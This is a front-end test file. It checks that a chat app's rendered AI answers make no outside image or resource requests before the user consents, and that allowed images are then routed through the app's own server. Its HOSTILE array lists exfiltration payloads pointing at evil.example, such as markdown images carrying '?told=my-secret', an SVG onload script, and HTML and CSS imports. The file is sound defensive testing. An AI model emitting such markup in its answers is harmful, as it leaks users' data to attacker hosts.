/** A conversation whose answers would have the page fetch from elsewhere: nothing leaves it before the person agrees, and then to its own server. */
import { fireEvent, screen, waitFor } from "@testing-library/react";
import { beforeEach, expect, test, vi } from "vitest";
import { furnish } from "@/test/dom";
import { json } from "@/test/fake-fetch";
import { openHouse, summary } from "@/test/house";
import { answer, conversation, question } from "./samples";

const HOSTILE = [
  "![told](https://evil.example/pixel.png?told=my-secret)",
  "![by reference][p]\n\n[p]: https://evil.example/p.png",
  "![protocol](//evil.example/x.png) ![data](data:image/svg+xml,<svg onload=alert(1)>) ![blob](blob:https://evil.example/1)",
  '<img src="https://evil.example/html.png"> <picture><source srcset="https://evil.example/s.png"></picture>',
  '<link rel="prefetch" href="https://evil.example/"> <style>@import "https://evil.example/a.css"</style>',
  "[![nested](https://evil.example/n.png)](https://evil.example/page)",
  "![kept](https://pictures.example/kept.png) ![other port](https://pictures.example:8443/x.png)",
  "$\\includegraphics{https://evil.example/tex.png}$",
  "| ![cell](https://evil.example/cell.png) |\n|---|\n| x |",
  "> - ![deep](https://evil.example/deep.png)[^1]\n\n[^1]: ![note](https://evil.example/note.png)",
];

beforeEach(() => {
  localStorage.clear();
  furnish();
});

test("hostile pictures of a conversation cause no request but to the page's own server, and none at all before they are wanted", async () => {
  const sources = vi.spyOn(HTMLImageElement.prototype, "src", "set");
  const set = vi.spyOn(Element.prototype, "setAttribute");
  const one = summary(1);
  const messages = HOSTILE.flatMap((content, number) => {
    const before = number === 0 ? null : `a${number - 1}`;
    return [question(`q${number}`, before), answer(`a${number}`, `q${number}`, { content })];
  });
  const left: string[] = [];
  const kept = messages.find(({ content }) => content.includes("kept.png"));
  if (!kept) throw new Error("No answer shows a picture that the settings allow.");
  const { person, server } = openHouse(
    `/c/${one.id}`,
    { conversations: [one], session: { outside: { hosts: ["pictures.example"], offline: false } } },
    {
      "GET /api/conversations/:id": () =>
        json(
          conversation(
            one.id,
            messages.map((message) => (message === kept ? { ...kept, left } : message)),
          ),
        ),
    },
  );
  const show = await screen.findByRole("button", { name: "Show image from pictures.example" });
  await waitFor(() =>
    expect(screen.getAllByText(/settings allow no images from evil.example/).length).toBeGreaterThan(2),
  );
  const fetched = () => [
    ...sources.mock.calls.map(([address]) => String(address)),
    ...set.mock.calls
      .filter(([name]) => /^(src|srcset|poster|data)$/i.test(name))
      .map(([, address]) => String(address)),
  ];
  expect(fetched()).toEqual([]);
  expect(
    document.querySelectorAll("img, picture, source, iframe, object, embed, video, audio, main link, main style"),
  ).toHaveLength(0);

  await person.click(show);
  const address = encodeURIComponent("https://pictures.example/kept.png");
  const own = `${location.origin}/api/outside?url=${address}&message=${kept.id}`;
  expect(screen.getByRole("img", { name: "kept" }).getAttribute("src")).toBe(own);
  expect(new Set(fetched())).toEqual(new Set([own]));
  // It came, and the server says who was asked on the way: that is counted under the answer.
  left.push("pictures.example", "store.example");
  fireEvent.load(screen.getByRole("img", { name: "kept" }));
  expect(await screen.findByText("sent to pictures.example, store.example")).toBeDefined();
  for (const { path } of server.asked) expect(path).toMatch(/^\/(api|v1|health)/);
});
